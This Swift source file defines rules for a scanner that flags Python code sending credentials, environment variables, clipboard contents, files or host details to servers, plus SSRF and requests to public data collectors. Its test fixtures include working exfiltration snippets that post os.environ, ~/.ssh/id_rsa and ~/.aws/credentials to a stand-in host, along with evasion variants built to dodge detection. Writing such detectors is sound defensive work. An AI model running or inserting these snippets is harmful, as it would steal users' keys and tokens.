import BulkheadSource

extension Rules {
  /// What leaves the machine, and where it goes.
  static let pythonNetwork: [Rule] = [
    pythonExfiltration, pythonFileUpload, pythonRequestForgery, pythonCollector,
  ]

  static let pythonExfiltration = Rule(
    "python-exfiltration", .critical, [.python],
    title: "sends credentials, the environment or what the user copies to a server",
    why: "Keys and tokens are the user's access to everything else.",
    help: "send only the values that the service needs, and name them in permissions.env",
    positives: [
      "import os, requests\nrequests.post('https://c.example.net', json=dict(os.environ))",
      "import requests\nrequests.post(u, data=open('/home/u/.ssh/id_rsa').read())",
    ],
    evasions: [
      "import os, json\nfrom urllib.request import urlopen as u\ndata = json.dumps({k: v for k, v in os.environ.items()})\nu('https://c.example.net', data.encode())",
      "import os, requests\ndef key():\n    with open(os.path.expanduser('~/.aws/credentials')) as f:\n        return f.read()\ndef send(x):\n    requests.post(u, data={'k': x})\nsend(key())",
      "import pyperclip, requests\nrequests.post(u, data=pyperclip.paste())",
      "import requests as r\nfrom pathlib import Path\nk = (Path.home() / '.ssh' / 'id_rsa').read_text()\nr.put(u, data=k)",
      "import socket, os\ns = socket.socket()\ns.sendall(str(os.environ).encode())",
    ],
    negatives: [
      "import os, requests\nrequests.get(u, headers={'Authorization': os.environ['TOKEN']})",
      "import os, subprocess\nsubprocess.run(['ls'], env=dict(os.environ))",
      "import requests\nrequests.post(u, data=open('report.json').read())",
    ],
    check: .python { facts, report in
      for (call, data) in facts.sendings {
        let flow = facts.flow.sources(of: data)
        if !flow.isDisjoint(with: [.credentials, .environment, .capture]) { report.add(call.span) }
      }
    })

  static let pythonFileUpload = Rule(
    "python-exfiltration-file", .low, [.python],
    title: "sends the content of a file, or what is known of the machine, to a server",
    why: "Whoever runs the server learns what the user did not choose to tell.",
    help: "say in the documentation what is sent and where, and declare the host",
    positives: ["import requests\nrequests.post(u, files={'f': open(path, 'rb')})"],
    evasions: [
      "import requests, base64\nd = base64.b64encode(open(p, 'rb').read())\nrequests.post('https://c.example.net', json={'d': d})",
      "import socket, getpass, requests\nrequests.post(u, json={'h': socket.gethostname(), 'u': getpass.getuser()})",
    ],
    negatives: ["import requests\nrequests.get(u, params={'q': query})", "open(p).read()"],
    check: .python { facts, report in
      for (call, data) in facts.sendings {
        let flow = facts.flow.sources(of: data)
        guard !flow.isDisjoint(with: [.file, .host]),
          flow.isDisjoint(with: [.credentials, .environment, .capture])
        else { continue }
        report.add(call.span)
      }
    })

  static let pythonRequestForgery = Rule(
    "python-ssrf", .medium, [.python],
    title: "asks an address that a caller chooses",
    why: "From here a caller reaches servers that only this machine may reach.",
    help: "choose the host from a list, and refuse private addresses",
    positives: [
      "import requests\n@mcp.tool()\ndef get(url: str):\n    return requests.get(url).text"
    ],
    evasions: [
      "import httpx\n@app.get('/')\nasync def get(host):\n    async with httpx.AsyncClient() as c:\n        return await c.get(f'http://{host}/')",
      "import urllib.request, flask\nurllib.request.urlopen(flask.request.args.get('u'))",
    ],
    negatives: [
      "import requests\n@mcp.tool()\ndef get(q: str):\n    return requests.get('https://api.example.net/', params={'q': q})",
      "import requests\n@mcp.tool()\ndef get(id: str):\n    return requests.get(f'https://api.example.net/{id}')",
      "import requests\nrequests.get(url)",
    ],
    check: .python { facts, report in
      for (call, data) in facts.sendings {
        guard let address = address(call, data, facts) else { continue }
        let text = facts.evaluator.spelled(address)
        // A constant host stays the host whatever follows it.
        if let url = URLText(text), !url.host.contains("\u{FFFC}") { continue }
        if text.hasPrefix("/") { continue }
        if facts.sources(address).contains(.input) { report.add(call.span) }
      }
      for call in facts.calls(of: ["socket.socket().connect", "socket.create_connection"]) {
        if facts.sources(call.arguments.first).contains(.input) { report.add(call.span) }
      }
    })

  /// The argument that is the address.
  private static func address(
    _ call: PythonFacts.Call, _ data: [PythonTree.Index], _ facts: PythonFacts
  ) -> PythonTree.Index? {
    guard let path = call.path, !path.contains("send"), !path.hasPrefix("smtplib") else {
      return nil
    }
    if path.hasSuffix(".request") || path.hasSuffix(".stream") {
      return facts.argument(call, "url", 1)
    }
    return facts.argument(call, "url", 0)
  }

  static let pythonCollector = Rule(
    "python-network-collector", .high, [.python],
    title: "talks to a host that anybody uses to collect data",
    why: "Request collectors, tunnels and paste sites receive data without saying for whom.",
    help: "use a host of your own, and name it in permissions.network",
    positives: ["import requests\nrequests.post('https://webhook.site/1234', json=x)"],
    evasions: [
      "import requests\nh = '.'.join(['webhook', 'site'])\nrequests.get(f'https://{h}/x')",
      "import requests\nrequests.post('https://discord.com/api/webhooks/123/abc', json=x)",
    ],
    negatives: [
      "import requests\nrequests.get('https://api.github.com/')", "print('https://webhook.site')",
    ],
    check: .python { facts, report in
      for (call, data) in facts.sendings {
        for argument in data.prefix(2) {
          let text = facts.evaluator.spelled(argument)
          if let host = Collectors.host(in: text) { report.add(call.span, host) }
        }
      }
    })
}
